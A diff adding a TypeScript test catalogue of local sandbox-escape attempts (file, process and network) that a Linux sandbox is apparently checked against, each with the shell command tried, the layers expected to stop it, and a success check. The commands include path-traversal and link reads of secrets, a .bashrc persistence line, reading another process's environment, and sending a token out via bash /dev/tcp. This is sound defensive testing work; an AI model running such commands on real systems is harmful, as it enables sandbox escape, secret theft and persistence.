@@ -1,0 +1,73 @@
+/** The local attacks: what is tried, which layers stop it, and how the world shows that it worked. */
+import { existsSync, readFileSync, readlinkSync, statSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Attack } from './attack.ts';
+import type { Seen } from './world.ts';
+
+const read = (path: string): string => (existsSync(path) ? readFileSync(path, 'utf8') : '');
+const gotSecret = ({ world, loot }: Seen): boolean => loot.includes(world.secret);
+const gotToken = ({ world, loot }: Seen): boolean => loot.includes(world.token);
+const heardToken = ({ world, heard }: Seen): boolean => heard.includes(world.token);
+const inScratch = (name: string) => ({ world }: Seen): boolean => read(join(world.scratch, name)).includes(world.token);
+const inWorkspace = (name: string, what: 'token' | 'secret' = 'token') => ({ world }: Seen): boolean => read(join(world.workspace, name)).includes(world[what]);
+const wrote = (pattern: RegExp) => ({ loot }: Seen): boolean => pattern.test(loot);
+
+/** The policy that every attempt runs under; an entry may add to it. */
+export const standardSpec = 'isolation: { network: restricted, filesystem: workspace, syscalls: standard }, filesystem: { deny: [/workspace/keys/**, /workspace/vault/deep/**], readOnly: [/workspace/fixed] }';
+
+const files: readonly Attack[] = [
+  { id: 'read-outside', title: 'read a file of the host that everybody may read', stops: ['view'], plain: 'user', attempt: 'cat $HIDDEN/secret >$W/loot', won: gotSecret },
+  { id: 'read-by-link', title: 'read it through a link in the workspace', stops: ['view'], plain: 'user', attempt: 'ln -s $HIDDEN/secret $W/link; cat $W/link >$W/loot', won: gotSecret },
+  { id: 'read-by-dots', title: 'read it by way of ../..', stops: ['view'], plain: 'user', attempt: 'cd $W && cat ../../../../../..$HIDDEN/secret >$W/loot', won: gotSecret },
+  { id: 'read-by-slashes', title: 'read it under another spelling of its path', stops: ['view'], plain: 'user', attempt: 'cat //.$HIDDEN//././secret >$W/loot', won: gotSecret },
+  { id: 'list-outside', title: 'list a folder of the host', stops: ['view'], plain: 'user', attempt: 'ls $HIDDEN >$W/loot', won: wrote(/stream\.sock/) },
+  { id: 'write-outside', title: "make a file in the host's /tmp", stops: ['view'], plain: 'user', attempt: 'echo $TOKEN >$SCRATCH/new', won: inScratch('new') },
+  { id: 'write-by-link', title: 'write through a link in the workspace', stops: ['view'], plain: 'user', attempt: 'ln -s $SCRATCH/open $W/link; echo $TOKEN >>$W/link', won: inScratch('open') },
+  { id: 'truncate-outside', title: 'truncate(2) a file of the host by name', stops: ['view'], plain: 'user', attempt: '$TRY cut $SCRATCH/open', won: ({ world }) => statSync(join(world.scratch, 'open')).size === 0 },
+  { id: 'persist', title: "leave a line in somebody's shell start file", stops: ['view'], plain: 'user', attempt: 'mkdir -p $SCRATCH/home && echo $TOKEN >>$SCRATCH/home/.bashrc', won: inScratch('home/.bashrc') },
+  { id: 'move-out', title: 'rename a file out of the workspace', stops: ['view'], plain: 'user', attempt: 'echo $TOKEN >$W/parcel; mv $W/parcel $SCRATCH/parcel', won: inScratch('parcel') },
+  { id: 'host-socket', title: "talk to a host service's Unix socket (as docker.sock)", stops: ['view'], plain: 'user', attempt: '$TRY unix_socket stream $HIDDEN/stream.sock $TOKEN', won: heardToken },
+  { id: 'host-datagrams', title: 'send a datagram to a Unix socket (as /dev/log)', stops: ['view'], plain: 'user', attempt: '$TRY unix_socket datagram $HIDDEN/datagram.sock $TOKEN', won: heardToken },
+  { id: 'denied-folder', title: 'read what the policy denies inside the workspace', stops: ['mounts'], plain: 'user', attempt: 'cat $W/keys/secret >$W/loot', won: gotSecret },
+  { id: 'denied-renamed', title: 'move the folder above a denied one away, then read', stops: ['mounts'], plain: 'user', attempt: 'mv $W/vault $W/moved; cat $W/moved/deep/secret $W/vault/deep/secret >$W/loot', won: gotSecret },
+  { id: 'denied-by-link', title: 'read a denied file by a hard link', stops: ['mounts'], plain: 'user', attempt: 'ln $W/keys/secret $W/hard; cat $W/hard >$W/loot', won: gotSecret },
+  { id: 'fixed-file', title: 'change what is read-only inside the workspace', stops: ['mounts'], plain: 'user', attempt: 'echo $TOKEN >>$W/fixed/file', won: inWorkspace('fixed/file') },
+  { id: 'fixed-replaced', title: 'replace the read-only folder by one of its own', stops: ['mounts'], plain: 'user', attempt: 'mv $W/fixed $W/old; mkdir $W/fixed; echo $TOKEN >$W/fixed/file', won: inWorkspace('fixed/file') },
+  { id: 'shown-file', title: 'write to a file shown read-only that everybody may write', stops: ['view', 'landlock'], plain: 'user', attempt: 'echo $TOKEN >>$SHOWN/open', won: ({ world }) => read(join(world.shown, 'open')).includes(world.token) },
+  { id: 'shown-pipe', title: "write into a host program's pipe in a folder shown read-only", stops: ['landlock'], plain: 'user', attempt: 'timeout 2 sh -c "echo $TOKEN >$SHOWN/pipe"', won: heardToken },
+  { id: 'other-program', title: 'run a program that the policy does not name', stops: ['landlock'], plain: 'user', spec: 'process: { exec: { allow: [/usr/bin/dash, /usr/bin/cat] } }', attempt: '/usr/bin/echo $TOKEN >$W/loot', won: gotToken },
+  { id: 'dropped-program', title: 'run a program from the workspace by the dynamic loader', stops: ['mounts'], plain: 'user', spec: 'process: { exec: { allow: [/usr/bin/dash, /usr/bin/cat] } }', attempt: 'cat /usr/bin/echo >$W/tool; /lib64/ld-linux-x86-64.so.2 $W/tool $TOKEN >$W/loot', won: gotToken },
+  { id: 'loader', title: 'run a program that the policy does not name by the dynamic loader', stops: [], admitted: /^process\.exec\.allow: .*dynamic loader/, plain: 'user', spec: 'process: { exec: { allow: [/usr/bin/dash, /usr/bin/cat] } }', attempt: '/lib64/ld-linux-x86-64.so.2 /usr/bin/echo $TOKEN >$W/loot', won: gotToken },
+];
+
+const processes: readonly Attack[] = [
+  { id: 'root-file', title: "read root's own file in a folder that is shown", stops: ['uid'], plain: 'root', attempt: 'cat $SHOWN/root-only >$W/loot', won: gotSecret },
+  { id: 'root-socket', title: 'talk to a socket that only root may use', stops: ['uid'], plain: 'root', attempt: '$TRY unix_socket stream $SHOWN/root.sock $TOKEN', won: heardToken },
+  { id: 'change-mode', title: 'chmod a file of the host (Landlock does not see it)', stops: ['view', 'uid'], plain: 'root', attempt: '$TRY change_mode $SHOWN/open 0751', won: ({ world }) => (statSync(join(world.shown, 'open')).mode & 0o777) === 0o751 },
+  { id: 'by-handle', title: 'open a file by its handle, where no path leads (shocker)', stops: ['seccomp', 'uid'], with: ['caps'], plain: 'root', attempt: '$TRY by_handle $SHOWN $HANDLE_TYPE $HANDLE >$W/loot', won: gotSecret },
+  { id: 'kill-neighbour', title: 'kill a host process of the same uid', stops: ['pidns', 'landlock'], plain: 'user', attempt: '$TRY kill_it $NEIGHBOUR', won: ({ world }) => !world.neighbourLives },
+  { id: 'trace-neighbour', title: 'attach to a host process of the same uid and end it', stops: ['pidns', 'landlock'], plain: 'user', attempt: 'timeout 2 $TRY trace_it $NEIGHBOUR', won: ({ world }) => !world.neighbourLives },
+  { id: 'neighbour-environment', title: 'read the environment of a host process of the same uid', stops: ['pidns', 'landlock'], plain: 'user', attempt: 'cat /proc/$NEIGHBOUR/environ >$W/loot', won: gotSecret },
+  { id: 'outlive', title: 'live on as a daemon when the sandbox is gone', stops: ['pidns'], plain: 'user', attempt: '$TRY outlive $W/later $TOKEN', won: inWorkspace('later') },
+  { id: 'set-uid', title: 'leave a set-uid program in the workspace', stops: ['seccomp'], plain: 'user', attempt: '$TRY set_uid $W/left', won: ({ world }) => existsSync(join(world.workspace, 'left')) && (statSync(join(world.workspace, 'left')).mode & 0o4000) !== 0 },
+  { id: 'user-namespace', title: 'make a user namespace (root in it)', stops: ['seccomp'], plain: 'user', attempt: '$TRY user_namespace >$W/loot', won: ({ loot }) => /^user:\[\d+\]/.test(loot) && loot.trim() !== readlinkSync('/proc/self/ns/user') },
+  { id: 'io-uring', title: 'get a ring that does system calls unseen (io_uring)', stops: ['seccomp'], plain: 'user', mayLack: 'io_uring', attempt: '$TRY ring >$W/loot', won: wrote(/io_uring/) },
+  { id: 'keyring', title: "keep data in the kernel's key rings", stops: ['seccomp'], plain: 'user', attempt: '$TRY keys $TOKEN >$W/loot', won: gotToken },
+  { id: 'bpf', title: 'make a BPF map', stops: ['seccomp', 'uid'], with: ['caps'], plain: 'root', attempt: '$TRY bpf_map >$W/loot', won: wrote(/bpf-map/) },
+  { id: 'kernel-crypto', title: "reach the kernel's crypto by a socket (AF_ALG)", stops: ['seccomp'], plain: 'user', mayLack: 'AF_ALG', attempt: '$TRY kernel_crypto >$W/loot', won: wrote(/socket:/) },
+  { id: 'vsock', title: 'get a socket to the hypervisor (AF_VSOCK)', stops: ['seccomp'], plain: 'user', mayLack: 'AF_VSOCK', attempt: '$TRY vsock >$W/loot', won: wrote(/socket:/) },
+  { id: 'not-random', title: 'start programs without address randomisation', stops: ['seccomp'], plain: 'user', attempt: '$TRY not_random >$W/loot', won: wrote(/personality 4/) },
+];
+
+const network: readonly Attack[] = [
+  { id: 'host-tcp', title: "connect to a service on the host's loopback", stops: ['netns'], plain: 'user', attempt: '$TRY internet plain $PORT $TOKEN', won: heardToken },
+  { id: 'fast-open', title: 'the same by TCP Fast Open, without connect(2)', stops: ['netns'], plain: 'user', attempt: '$TRY internet fastopen $PORT $TOKEN', won: heardToken },
+  { id: 'multipath', title: 'the same by Multipath TCP', stops: ['netns', 'seccomp'], plain: 'user', mayLack: 'MPTCP', attempt: '$TRY internet multipath $PORT $TOKEN', won: heardToken },
+  { id: 'host-udp', title: 'send a datagram to the host', stops: ['netns'], plain: 'user', attempt: '$TRY internet datagram $DATAGRAMS $TOKEN', won: heardToken },
+  { id: 'shell-tcp', title: 'the same from bash, with no proxy variables', stops: ['netns'], plain: 'user', attempt: 'bash -c "echo $TOKEN >/dev/tcp/127.0.0.1/$PORT"', won: heardToken },
+  { id: 'listen', title: 'listen where the host can come by', stops: ['netns'], plain: 'user', attempt: '$TRY offer $BACK $TOKEN', won: heardToken },
+  { id: 'abstract-socket', title: 'talk to an abstract Unix socket of the host', stops: ['netns', 'landlock'], plain: 'user', attempt: '$TRY abstract_socket $ABSTRACT $TOKEN', won: heardToken },
+  { id: 'see-interfaces', title: "see the host's network interfaces", stops: ['netns'], plain: 'user', attempt: 'cat /proc/net/dev >$W/loot', won: ({ loot }) => loot.split('\n').some((line) => /^\s*\w+:/.test(line) && !/^\s*lo:/.test(line)) },
+];
+
+export const attacks: readonly Attack[] = [...files, ...processes, ...network];
